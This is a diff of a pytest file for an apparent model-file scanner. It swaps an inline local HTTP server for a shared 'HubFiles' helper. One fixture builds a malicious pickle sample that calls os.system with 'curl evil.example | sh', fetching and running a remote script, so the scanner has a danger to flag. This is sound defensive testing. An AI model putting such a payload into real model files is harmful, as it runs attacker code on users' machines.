@@ -1,57 +1,24 @@
 """A file's scan from its url to its verdict, with the hub's files served over real HTTP on 127.0.0.1."""
 
 import hashlib
-import threading
 from collections.abc import Iterator
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import pytest
 
+from devtools.hub_files import HubFiles
 from hub.models import HubEvent
 from reports.models import Report
 from scanning.models import FileScan
 from scanning.services import file_scan_run
 from tests.scanning import corpus
 
-
-class StaticFiles:
-    """Serves fixed bytes by path and counts the requests for each."""
-
-    def __init__(self, files: dict[str, bytes]):
-        self.files, self.requests = files, {path: 0 for path in files}
-        served = self
-
-        class Handler(BaseHTTPRequestHandler):
-            def do_GET(self) -> None:
-                body = served.files.get(self.path)
-                served.requests[self.path] = served.requests.get(self.path, 0) + 1
-                self.send_response(200 if body is not None else 404)
-                self.send_header("Content-Length", str(len(body or b"")))
-                self.end_headers()
-                self.wfile.write(body or b"")
-
-            def log_message(self, *args) -> None:
-                pass
-
-        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-        self.netloc = f"127.0.0.1:{self._server.server_address[1]}"
-        threading.Thread(target=self._server.serve_forever, args=(0.05,), daemon=True).start()
-
-    def url(self, path: str) -> str:
-        return f"http://{self.netloc}{path}"
-
-    def stop(self) -> None:
-        self._server.shutdown()
-        self._server.server_close()
-
-
 DANGEROUS = corpus.torch_zip(corpus.pickle_call(2, "os", "system", "curl evil.example | sh"))
 WEIGHTS = corpus.safetensors_valid()
 
 
 @pytest.fixture
-def files(settings) -> Iterator[StaticFiles]:
-    served = StaticFiles({"/model.bin": DANGEROUS, "/model.safetensors": WEIGHTS, "/liar.bin": b"other bytes"})
+def files(settings) -> Iterator[HubFiles]:
+    served = HubFiles({"/model.bin": DANGEROUS, "/model.safetensors": WEIGHTS, "/liar.bin": b"other bytes"})
     settings.SCAN_FETCH_ALLOWED_HOSTS = [served.netloc]
     yield served
     served.stop()
@@ -61,7 +28,7 @@ def sha(data: bytes) -> str:
     return hashlib.sha256(data).hexdigest()
 
 
-def sync(hub_api, name: str, served: StaticFiles, entries: list[tuple[str, bytes, str]]) -> None:
+def sync(hub_api, name: str, served: HubFiles, entries: list[tuple[str, bytes, str]]) -> None:
     body = {"kind": "model", "revision": "0123abcd",
             "files": [{"path": path, "sha256": sha(data), "size": len(data), "url": served.url(route)}
                       for path, data, route in entries]}  # fmt: skip
@@ -117,4 +84,4 @@ def test_a_host_not_allowed_is_skipped_saying_which(seeded, hub_api, files, sett
 
     assert file_scan_run(sha256=sha(DANGEROUS)) in ("error", "skipped")
     assert "not allowed" in FileScan.objects.get(sha256=sha(DANGEROUS)).reason
-    assert files.requests["/model.bin"] == 0
+    assert files.requests.get("/model.bin", 0) == 0
